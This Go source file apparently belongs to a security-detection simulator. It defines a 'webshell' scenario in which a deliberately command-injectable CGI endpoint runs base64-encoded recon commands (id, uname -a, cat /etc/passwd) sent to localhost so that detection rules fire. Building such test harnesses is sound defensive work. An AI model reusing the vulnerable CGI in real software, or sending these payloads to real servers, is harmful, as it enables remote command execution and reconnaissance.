package simulate

import (
	"context"
	"encoding/base64"
	"fmt"
	"io"
	"net/http"
	"strings"
)

// webshellCGI is the victim's vulnerable endpoint: a diagnostics CGI that
// hands its cmd parameter to a shell, as PHP's shell_exec($_GET['cmd'])
// does in Defender's simulator.
const webshellCGI = `#!/bin/sh
# vigil-sim victim: a command-injection endpoint (runs the cmd parameter).
echo "Content-Type: text/plain"
echo ""
cmd=$(/usr/sbin/httpd -d "${QUERY_STRING#cmd=}")
/bin/sh -c "$cmd" 2>&1
`

// webshellAddr is where the victim's web server listens, in its own
// network namespace.
const webshellAddr = "127.0.0.1:8080"

// webshellCommands are what the attacker sends, base64-encoded as
// Defender's simulator does (echo <b64> | base64 -d | sh): who am I, where
// am I, who else is here.
var webshellCommands = []string{"/bin/id", "/bin/uname -a", "/bin/cat /etc/passwd"}

func webshell() *Scenario {
	return &Scenario{
		ID:      "webshell",
		Summary: "a web server's command-injection endpoint runs base64-encoded commands (id, uname -a, cat /etc/passwd)",
		Rules:   []string{"runtime.web-shell", "runtime.base64-payload-to-shell", "runtime.web-shell-recon-sequence"},
		Victim: VictimSpec{
			Name:  "webshell",
			Args:  []string{"/usr/sbin/httpd", "-f", "-p", webshellAddr, "-h", "/var/www"},
			Links: map[string]string{"/usr/sbin/httpd": "/bin/busybox"},
			Files: map[string]File{
				"/var/www/index.html":   {Data: []byte("<h1>vigil-sim victim</h1>\n"), Mode: 0o644},
				"/var/www/cgi-bin/diag": {Data: []byte(webshellCGI), Mode: 0o755},
			},
		},
		Run: func(ctx context.Context, s *Session) error {
			if err := waitListening(ctx, s.Victim, webshellAddr); err != nil {
				return err
			}
			hc := victimHTTP(s.Victim)
			s.Step("runtime.web-shell", "runtime.base64-payload-to-shell", "runtime.web-shell-recon-sequence")
			for _, c := range webshellCommands {
				payload := "echo " + base64.StdEncoding.EncodeToString([]byte(c)) + " | base64 -d | sh"
				out, err := webGet(ctx, hc, "http://"+webshellAddr+"/cgi-bin/diag?cmd="+queryEscape(payload))
				s.Logf("  web shell %q (%s) ->\n%s", c, payload, indent(out))
				if err != nil {
					return err
				}
			}
			return nil
		},
	}
}

func webGet(ctx context.Context, hc *http.Client, url string) (string, error) {
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, url, nil)
	if err != nil {
		return "", err
	}
	resp, err := hc.Do(req)
	if err != nil {
		return "", fmt.Errorf("GET %s: %w", url, err)
	}
	defer resp.Body.Close()
	body, _ := io.ReadAll(io.LimitReader(resp.Body, 1<<20))
	if resp.StatusCode != http.StatusOK {
		return string(body), fmt.Errorf("GET %s: %s", url, resp.Status)
	}
	return strings.TrimSpace(string(body)), nil
}
